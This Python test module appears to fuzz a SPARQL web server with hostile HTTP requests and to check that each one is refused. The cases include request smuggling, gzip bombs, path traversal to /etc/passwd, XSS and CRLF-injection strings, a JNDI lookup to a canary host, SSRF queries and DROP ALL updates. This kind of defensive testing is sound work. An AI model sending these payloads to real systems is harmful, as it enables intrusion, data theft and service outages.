"""Hostile HTTP: heads, bodies, forms, paths, identifiers, and every parameter of every query of the library."""

from __future__ import annotations

import gzip
from collections.abc import Callable, Mapping
from dataclasses import replace
from urllib.parse import quote

from hostile import FINE, LARGE, Case
from rusgraf.library import library

BAD, MISSING, NOTHING = frozenset({400}), frozenset({404}), frozenset({0})
NO = frozenset({400, 403, 404, 405, 406, 411, 413, 414, 415, 431, 501, 505}) | NOTHING
"""Refused by the server of HTTP itself, in whatever way, or the connection closed."""
_ASK = b"ASK {}"
_QUERY = {"Content-Type": "application/sparql-query"}
_FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def got(target: str, expected: frozenset[int], headers: Mapping[str, str] | None = None) -> Case:
    """A GET."""
    return Case(expected, target=target, method="GET", headers=headers or {})


def headed(expected: frozenset[int] = FINE, **headers: str) -> Case:
    """An easy question with more headers; an underscore in a name stands for a hyphen."""
    more = {name.replace("_", "-"): value for name, value in headers.items()}
    return Case(expected, lambda: _ASK, headers={**_QUERY, **more})


def raw(content: str | bytes | Callable[[], bytes], expected: frozenset[int]) -> Case:
    """Bytes as they are."""
    made = content.encode("latin-1") if isinstance(content, str) else content
    return Case(expected, raw=made if callable(made) else lambda: made, seconds=60)


def line(text: str, expected: frozenset[int] = NO) -> Case:
    """A request with this first line."""
    return raw(f"{text}\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", expected)


def lines(*more: str, expected: frozenset[int] = NO, body: str = "") -> Case:
    """A request to ``/sparql`` with these lines in its head."""
    start = (
        "POST /sparql HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/sparql-query\r\n"
    )
    return raw(start + "".join(f"{one}\r\n" for one in more) + "\r\n" + body, expected)


def multipart(inside: Callable[[], bytes] | bytes, expected: frozenset[int], boundary: str = "; boundary=x") -> Case:
    """A form of parts."""
    made = inside if callable(inside) else lambda: inside
    return Case(expected, made, "/validate", headers={"Content-Type": f"multipart/form-data{boundary}"})


def part(name: str, content: str = "x", more: str = "") -> bytes:
    return f'--x\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{content}\r\n'.encode()


_END = b"--x--\r\n"
_SPLIT = "ASK {}"
HEADS = {
    "a large header": headed(NO, X_Large="a" * 300_000),
    "many headers": lines(*(f"X-{n}: 1" for n in range(20_000))),
    "some thousand headers": lines(
        *(f"X-{n}: 1" for n in range(5000)), "Content-Length: 6", expected=FINE | NO, body=_SPLIT
    ),
    "two lengths": lines("Content-Length: 6", "Content-Length: 60", body=_SPLIT, expected=FINE | NO),
    "the same length twice": lines("Content-Length: 6", "Content-Length: 6", body=_SPLIT, expected=FINE | NO),
    "lengths in a list": lines("Content-Length: 6, 6", body=_SPLIT, expected=FINE | NO),
    "length and chunks": lines(
        "Content-Length: 6", "Transfer-Encoding: chunked", body="0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"
    ),
    "chunks of another name": lines("Transfer-Encoding: xchunked", body="6\r\nASK {}\r\n0\r\n\r\n"),
    "chunks twice": lines("Transfer-Encoding: chunked, chunked", body="6\r\nASK {}\r\n0\r\n\r\n", expected=FINE | NO),
    "chunks, then none": lines(
        "Transfer-Encoding: chunked", "Transfer-Encoding: identity", body="6\r\nASK {}\r\n0\r\n\r\n"
    ),
    "chunks with a tab": lines("Transfer-Encoding:\tchunked", body="6\r\nASK {}\r\n0\r\n\r\n", expected=FINE | NO),
    "chunks that are good": lines("Transfer-Encoding: chunked", body="6\r\nASK {}\r\n0\r\n\r\n", expected=FINE),
    "a chunk beyond numbers": replace(lines("Transfer-Encoding: chunked", body="F" * 100_000 + "\r\n"), patience=2),
    "a negative chunk": lines("Transfer-Encoding: chunked", body="-1\r\nASK {}\r\n0\r\n\r\n"),
    "a chunk of no number": lines("Transfer-Encoding: chunked", body="0x6\r\nASK {}\r\n0\r\n\r\n"),
    "a chunk with an extension": lines(
        "Transfer-Encoding: chunked", body=f"6;{'a' * 10_000}=1\r\nASK {{}}\r\n0\r\n\r\n", expected=FINE | NO
    ),
    "a chunk too short": lines("Transfer-Encoding: chunked", body="2\r\nASK {}\r\n0\r\n\r\n"),
    "a large trailer": lines(
        "Transfer-Encoding: chunked", body=f"6\r\nASK {{}}\r\n0\r\nX: {'a' * 300_000}\r\n\r\n", expected=FINE | NO
    ),
    "a length that is none": lines("Content-Length: six", body=_SPLIT),
    "a length with a sign": lines("Content-Length: +6", body=_SPLIT),
    "a negative length": lines("Content-Length: -6", body=_SPLIT),
    "a length beyond numbers": lines(f"Content-Length: {10**30}", body=_SPLIT),
    "a length in other digits": raw("POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: \xb2\r\n\r\nAB", NO),
    "a folded header": lines("X-A: 1\r\n 2", "Content-Length: 6", body=_SPLIT, expected=FINE | NO),
    "a header without a colon": lines("X-A", "Content-Length: 6", body=_SPLIT),
    "a space before the colon": lines("Content-Length : 6", body=_SPLIT),
    "a header without a name": lines(": x", "Content-Length: 6", body=_SPLIT),
    "NUL in a header": lines("X-A: \0", "Content-Length: 6", body=_SPLIT, expected=FINE | NO),
    "a bare line feed": replace(raw("POST /sparql HTTP/1.1\nHost: x\nContent-Length: 6\n\nASK {}", NO), patience=2),
    "a bare carriage return": lines("X-A: 1\rX-Evil: 1", "Content-Length: 6", body=_SPLIT, expected=FINE | NO),
    "no host": raw("GET /health HTTP/1.1\r\nConnection: close\r\n\r\n", FINE | BAD),
    "two hosts": lines("Host: evil.example", "Content-Length: 6", body=_SPLIT, expected=FINE | NO),
    "a host with script": headed(FINE | BAD, Host='x"><script>alert(1)</script>'),
    "a host with a path": headed(FINE | BAD, Host="127.0.0.1/../x"),
    "a host with a bad port": headed(FINE | BAD, Host="127.0.0.1:99999999"),
    "a long host": headed(FINE | BAD, Host="a" * 60_000),
    "an empty host": headed(FINE | BAD, Host=""),
    "a forwarded host": headed(X_Forwarded_Host="CANARY", X_Forwarded_Proto="javascript", Forwarded="host=evil"),
    "another method by header": headed(X_HTTP_Method_Override="DELETE"),
    "a rewritten address": headed(X_Original_URL="/admin", X_Rewrite_URL="/admin"),
    "ten thousand media types": headed(NO, Accept=",".join(f"a/b{n};q=0.{n % 999}" for n in range(10_000)) + ",*/*"),
    "media types without sense": headed(FINE | frozenset({406}), Accept=";;;,,,q=,*/*/*;q=zzz,\xe5"),
    "qualities without sense": headed(
        FINE | frozenset({406}), Accept="application/json;q=nan,*/*;q=1e999,text/html;q=-1"
    ),
    "ten thousand languages": headed(Accept_Language=",".join(f"x{n};q=0.1" for n in range(10_000))),
    "languages without sense": headed(Accept_Language="*;q=x,,;;-,sv-" + "a" * 10_000),
    "a language with script": headed(Accept_Language="<script>,\"'"),
    "codings without sense": headed(Accept_Encoding="gzip;q=0,*;q=0,identity;q=0," * 1000),
    "a charset without sense": headed(Accept_Charset="utf-7;q=1,x" * 1000),
    "ranges": headed(FINE | frozenset({206, 416}), Range="bytes=" + ",".join(f"{n}-" for n in range(5000))),
    "tags": headed(FINE | NO | frozenset({304, 412}), If_None_Match=",".join(f'"{n}"' for n in range(20_000))),
    "a date without sense": headed(If_Modified_Since="Mon, 99 Foo 99999 99:99:99 GMT"),
    "cookies": headed(Cookie="a=b; " * 10_000),
    "a cookie that ends a line": headed(Cookie='a="\\012x"'),
    "an authorization without sense": headed(FINE | frozenset({401}), Authorization="Bearer " + "a" * 50_000),
    "basic authorization of no bytes": headed(FINE | frozenset({401}), Authorization="Basic ====="),
    "wants to be continued": lines(
        "Expect: 100-continue", "Content-Length: 6", body=_SPLIT, expected=FINE | frozenset({100})
    ),
    "expects what is not": lines("Expect: x", "Content-Length: 6", body=_SPLIT, expected=FINE | NO | frozenset({417})),
    "upgrades": headed(Upgrade="websocket, h2c", HTTP2_Settings="AAMAAABkAAQAAP__"),
    "an origin": headed(Origin="CANARY"),
    "a referrer": headed(Referer="javascript:alert(1)"),
    "log forging": headed(FINE | BAD, User_Agent="x\x1b[2J\x07" + "a" * 5000),
    "a lookup in the log": headed(User_Agent="${jndi:ldap://CANARY/a}"),
}
STARTS = {
    "another server's address": line("GET CANARY/x HTTP/1.1", FINE | NO),
    "a tunnel": line("CONNECT CANARY HTTP/1.1"),
    "a trace": line("TRACE / HTTP/1.1"),
    "an unknown method": line("BREW /sparql HTTP/1.1"),
    "a long method": line("A" * 100_000 + " / HTTP/1.1"),
    "a method in lower case": line("get /health HTTP/1.1", FINE | NO),
    "a version to come": line("GET /health HTTP/9.9", FINE | NO),
    "no version": raw("GET /health\r\n\r\n", FINE | NO),
    "version of no number": line("GET /health HTTP/x.y"),
    "HTTP/2": raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", NO),
    "TLS": raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32) + b"\r\n\r\n", NO),
    "bytes": raw(bytes(range(256)) + b"\r\n\r\n", NO),
    "NUL in the address": line("GET /heal\0th HTTP/1.1"),
    "a space in the address": line("GET /heal th HTTP/1.1"),
    "a tab in the address": line("GET /health\tx HTTP/1.1"),
    "bytes in the address": raw(b"GET /\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", NO),
    "two requests": raw(
        "GET /health HTTP/1.1\r\nHost: x\r\n\r\nGET /etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", FINE
    ),
    "a thousand requests at once": raw(
        "GET /health HTTP/1.1\r\nHost: x\r\n\r\n" * 1000
        + "GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        FINE,
    ),
    "empty lines": raw("\r\n" * 1000 + "GET /health HTTP/1.0\r\n\r\n", FINE | NO),
}
BODIES = {
    "gzip bomb to ask": Case(
        frozenset({400, 413, 415}),
        lambda: gzip.compress(b" " * 50_000_000),
        headers={**_QUERY, "Content-Encoding": "gzip"},
    ),
    "gzip bomb to validate": Case(
        frozenset({400, 413, 415, 503}),
        lambda: gzip.compress(b" " * 50_000_000),
        "/validate",
        headers={"Content-Type": "text/turtle", "Content-Encoding": "gzip"},
    ),
    "a coding of none": headed(frozenset({200, 400, 415}), Content_Encoding="x-evil, gzip, br"),
    "a body too large": Case(LARGE, lambda: b"a" * 17 * 2**20, headers=_QUERY),
    "chunks too large": raw(
        lambda: (
            b"POST /sparql HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/sparql-query\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n" + (b"100000\r\n" + b"a" * 2**20 + b"\r\n") * 18 + b"0\r\n\r\n"
        ),
        LARGE,
    ),
    "no type": Case(frozenset({400, 415}), lambda: _ASK),
    "a long type": Case(frozenset({400, 415}), lambda: _ASK, headers={"Content-Type": "a/" + "b" * 50_000}),
    "a charset of none": Case(
        FINE | BAD | frozenset({415}),
        lambda: _ASK,
        headers={"Content-Type": "application/sparql-query; charset=x-evil"},
    ),
    "UTF-7": Case(
        FINE | BAD | frozenset({415}),
        lambda: b"ASK +AHs-}",
        headers={"Content-Type": "application/sparql-query; charset=utf-7"},
    ),
    "many fields": Case(BAD, lambda: b"&".join(b"a%d=1" % n for n in range(100_000)), headers=_FORM),
    "many ampersands": Case(BAD, lambda: b"&" * 1_000_000, headers=_FORM),
    "the query twice": Case(BAD, lambda: b"query=ASK{}&query=ASK{}", headers=_FORM),
    "an update": Case(frozenset({400, 401, 403, 404, 405}), lambda: b"update=DROP+ALL", headers=_FORM),
    "an update and a query": Case(frozenset({400, 403}), lambda: b"query=ASK{}&update=DROP+ALL", headers=_FORM),
    "a graph of the canary": Case(
        frozenset({200, 400, 403, 404}), lambda: b"query=ASK{?s+?p+?o}&default-graph-uri=CANARY/x", headers=_FORM
    ),
    "a named graph of a file": Case(
        frozenset({200, 400, 403, 404}), lambda: b"query=ASK{GRAPH+?g{?s+?p+?o}}&named-graph-uri=SECRET", headers=_FORM
    ),
    "percent of no byte": Case(FINE | BAD, lambda: b"query=ASK%7B%zz%7D", headers=_FORM),
    "percent of no letter": Case(BAD, lambda: b"query=ASK%7B%ff%7D", headers=_FORM),
    "bytes in a form": Case(BAD, lambda: b"query=\xff\xfe", headers=_FORM),
    "more than is said": lines("Content-Length: 6", body="ASK {}GET /etc/passwd HTTP/1.1\r\n\r\n", expected=FINE),
    "a write": Case(
        NO | frozenset({401}), lambda: b"<a:a> <a:b> 1 .", "/sparql?default", "PUT", {"Content-Type": "text/turtle"}
    ),
    "a deletion": Case(NO | frozenset({401}), target="/sparql?default", method="DELETE"),
}
PARTS = {
    "no boundary": multipart(part("file") + _END, BAD, ""),
    "an empty boundary": multipart(part("file") + _END, BAD, "; boundary="),
    "a long boundary": multipart(part("file") + _END, BAD, f"; boundary={'x' * 10_000}"),
    "a boundary of quotes": multipart(part("file") + _END, BAD, '; boundary="\\"'),
    "a hundred thousand parts": multipart(lambda: part("a") * 100_000 + _END, BAD | LARGE),
    "a hundred thousand files": multipart(lambda: part("a", more='; filename="a.ttl"') * 100_000 + _END, BAD | LARGE),
    "no parts": multipart(_END, BAD),
    "never ended": multipart(part("file", more='; filename="a.ttl"'), BAD),
    "a file without a name": multipart(part("file", more='; filename=""') + _END, BAD),
    "no file": multipart(part("file") + _END, BAD),
    "a part without a head": multipart(b"--x\r\n\r\nx\r\n" + _END, BAD),
    "a large head of a part": multipart(lambda: part("file", more=f'; a="{"a" * 5_000_000}"') + _END, BAD | LARGE),
    "many heads of a part": multipart(
        lambda: b"--x\r\n" + b"".join(b"X-%d: 1\r\n" % n for n in range(100_000)) + b"\r\nx\r\n" + _END, BAD | LARGE
    ),
    "a form in a form": multipart(
        b"--x\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\nx\r\n--y--\r\n" + _END, BAD
    ),
    "a name in another coding": multipart(
        part("file", "<a:a> <a:b> 1 .", "; filename*=utf-7''%2B.ttl") + _END, FINE | frozenset({400, 415})
    ),
    "a name with an end of line": multipart(
        part("file", "<a:a> <a:b> 1 .", '; filename="a%0d%0aX-Evil: 1.ttl"') + _END, FINE | frozenset({415})
    ),
    "a large field": multipart(lambda: part("back", "a" * 15_000_000) + _END, BAD | LARGE),
    "dashes": multipart(lambda: b"--x\r\n" + b"\r\n--" * 2_000_000, BAD | LARGE),
}
_UP = "../" * 8 + "etc/passwd"
PATHS = {
    "upwards": got("/" + _UP, MISSING | BAD),
    "upwards, encoded": got("/" + quote(_UP, safe=""), MISSING | BAD),
    "upwards, encoded twice": got("/" + quote(quote(_UP, safe="")), MISSING | BAD),
    "upwards from static": got("/static/" + _UP, MISSING | BAD),
    "upwards from static, encoded": got("/static/" + quote(_UP, safe=""), MISSING | BAD),
    "upwards from static by dots": got("/static/%2e%2e/%2e%2e/__init__.py", MISSING | BAD),
    "upwards in Windows": got("/static/..%5c..%5c__init__.py", MISSING | BAD),
    "an absolute path": got("/static//etc/passwd", MISSING | BAD | frozenset({308})),
    "an absolute path, encoded": got("/static/%2fetc%2fpasswd", MISSING | BAD | frozenset({308})),
    "NUL": got("/static/%00", MISSING | BAD),
    "NUL after a name": got("/static/rusgraf.css%00.html", MISSING | BAD),
    "the folder itself": got("/static/", MISSING),
    "a dot": got("/static/.", MISSING | BAD),
    "overlong dots": got("/static/%c0%ae%c0%ae/x", MISSING | BAD),
    "no percent": got("/%zz", MISSING | BAD),
    "no letter": got("/%ff%fe", MISSING | BAD),
    "a hundred kilobytes": got("/" + "a" * 100_000, NO),
    "many slashes": got("/" * 5000, FINE | MISSING | BAD | frozenset({308})),
    "many folders": got("/a" * 30_000, NO),
    "another server": got("//evil.example/x", MISSING | BAD | frozenset({308})),
    "a semicolon": got("/health;x=1", MISSING),
    "a script": got("/<script>alert(1)</script>", MISSING | BAD, {"Accept": "text/html"}),
    "a script, encoded": got("/%3Cscript%3Ealert(1)%3C/script%3E", MISSING, {"Accept": "text/html"}),
    "the repository": got("/.git/config", MISSING),
    "the environment": got("/.env", MISSING),
    "the machine": got("/proc/self/environ", MISSING),
    "a template": got("/%7B%7B7*7%7D%7D", MISSING, {"Accept": "text/html"}),
    "the console": got("/console?__debugger__=yes&cmd=1", MISSING),
    "an end of line": got("/health%0d%0aX-Evil:%201", MISSING),
    "an end of line in the language": got("/gaps?lang=%0d%0aX-Evil:%201", BAD),
    "an end of line in the format": got("/gaps?format=%0d%0aX-Evil:%201", BAD),
    "an end of line in a redirection": got("/spec?lang=%0d%0aX-Evil:%201", BAD),
    "a long language": got("/?lang=" + "a" * 50_000, BAD),
    "many languages": got("/?" + "lang=sv&" * 9000, FINE | NO),
    "a format of script": got("/gaps?format=%3Cscript%3E", BAD, {"Accept": "text/html"}),
    "a plan of script": got("/gaps?plan=%3Cscript%3E", BAD, {"Accept": "text/html"}),
    "a long plan": got("/gaps?plan=" + "a" * 50_000, BAD),
    "a plan of a file": got("/template?plan=SECRET", BAD),
    "a plan of the canary": got("/template?plan=CANARY/x", FINE),
    "a rule upwards": got("/gaps?rule=../../etc/passwd", frozenset({400, 404})),
    "a finding upwards": got("/gaps/..%2f../x", MISSING | BAD),
    "a finding of none": got("/gaps/x/y", MISSING),
    "a query upwards": got("/queries/..%2f..%2fetc/passwd", MISSING | BAD),
    "a query of script": got("/queries/%3Cscript%3E/x", MISSING, {"Accept": "text/html"}),
    "versions of none": got("/diff?a=%00&b=" + "b" * 9000, BAD | MISSING),
    "versions of the canary": got("/diff?a=CANARY&b=SECRET", BAD | MISSING),
    "a thousand regions": got("/compare?" + "region=x&" * 1000, BAD | MISSING),
    "regions of script": got("/compare?region=%3Cscript%3E", BAD | MISSING),
    "suggestions beyond numbers": got("/suggest?max=" + "9" * 5000, BAD),
    "suggestions in other digits": got("/suggest?max=%D9%A3", BAD),
    "a page beyond numbers": got("/res/om/spec/Delmal?format=html&page=" + "9" * 5000, BAD),
    "a page of none": got("/res/om/spec/Delmal?format=html&page=-1", BAD),
    "a far page": got("/res/om/spec/Delmal?format=html&page=999999", MISSING),
    "turned by script": got("/res/om/spec/Delmal?format=html&by=%3Cscript%3E", FINE | BAD),
    "a catalogue part": got("/catalog/..%2fx", MISSING | frozenset({303})),
    "a query in the address": got("/sparql?query=" + "%20" * 20_000 + "ASK{}", FINE | NO),
    "a query for the canary in the address": got(
        "/sparql?query=" + quote("SELECT * { SERVICE <CANARY/> { ?a ?b ?c } }", safe="CANRY"), frozenset({403})
    ),
    "a callback": got("/sparql?query=ASK%7B%7D&callback=alert", FINE),
}
_IRIS = {
    "script": "<script>alert(1)</script>",
    "quotes": "\"'`",
    "an end of line": "a\r\nX-Evil: 1",
    "NUL": "a\0b",
    "length": "a" * 20_000,
    "percent": "%25%252e",
    "a brace": "{}|\\^",
    "upwards": "../../../etc/passwd",
    "an address": "http://127.0.0.1:9/x",
    "another script": "javascript:alert(1)",
    "right to left": "\u202egnp.exe",
    "letters": "åäö/ÅÄÖ",
    "white space": " \t\u00a0",
    "a template": "{{7*7}}",
    "a hash": "#x",
    "a query": "?x=1",
    "dots": "./././.",
    "slashes": "a//b///c",
    "NFD": "a\u030a",
}
IDENTIFIERS = {
    f"{space}: {name}": got(
        f"/{space}/{quote(iri, safe='/')}",
        MISSING | BAD | frozenset({308, 414} | ({303} if space == "res/regel" else set())),
        {"Accept": "text/html"},
    )
    for space in ("id", "def", "spec", "res", "res/om/id", "id/fynd", "res/regel", "res/fel")
    for name, iri in _IRIS.items()
}  # fmt: skip
_VALUES = {
    "a quote": "x'} . ?s ?p ?o #",
    "script": "<script>alert(1)</script>",
    "length": "a" * 20_000,
    "NUL": "\0",
    "an end of line": "x\r\nX-Evil: 1",
    "a bad IRI": 'http://e/ "x',
    "the canary": "CANARY/x",
    "a file": "SECRET",
    "a number": "-" + "9" * 5000,
    "a pattern": "(a+)+$",
}
_RESULT = {"Accept": "application/sparql-results+json, text/turtle"}
LIBRARY = {
    f"{query.id}, {parameter.name}: {name}": got(
        f"/queries/{query.id}?{parameter.name}={quote(value, safe='CANARYSET')}", FINE | BAD | frozenset({404}), _RESULT
    )
    for query in library().values()
    for parameter in query.parameters
    for name, value in _VALUES.items()
} | {
    "a parameter of none": got("/queries/utforska/sok?x=1", BAD, _RESULT),
    "a parameter twice": got("/queries/utforska/sok?ord=a&ord=b", BAD, _RESULT),
    "a surrogate": got("/queries/utforska/sok?ord=%ED%A0%80", FINE | BAD, _RESULT),
    "a format of none": got("/queries/utforska/sok?ord=a&format=exe", BAD, _RESULT),
    "labels of none": got("/queries/utforska/sok?ord=a&labels=yes", BAD, _RESULT),
    "a thousand parameters": got("/queries/utforska/sok?" + "&".join(f"a{n}=1" for n in range(1000)), BAD, _RESULT),
}
LIBRARY = {name: replace(case, is_slow=number % 12 > 0) for number, (name, case) in enumerate(LIBRARY.items())}
_KINDS = {"head": HEADS, "start": STARTS, "body": BODIES, "part": PARTS, "path": PATHS, "identifier": IDENTIFIERS}
HTTP: Mapping[str, Case] = {
    f"{kind}: {name}": case
    for kind, cases in {**_KINDS, "library": LIBRARY}.items()
    for name, case in cases.items()
}  # fmt: skip
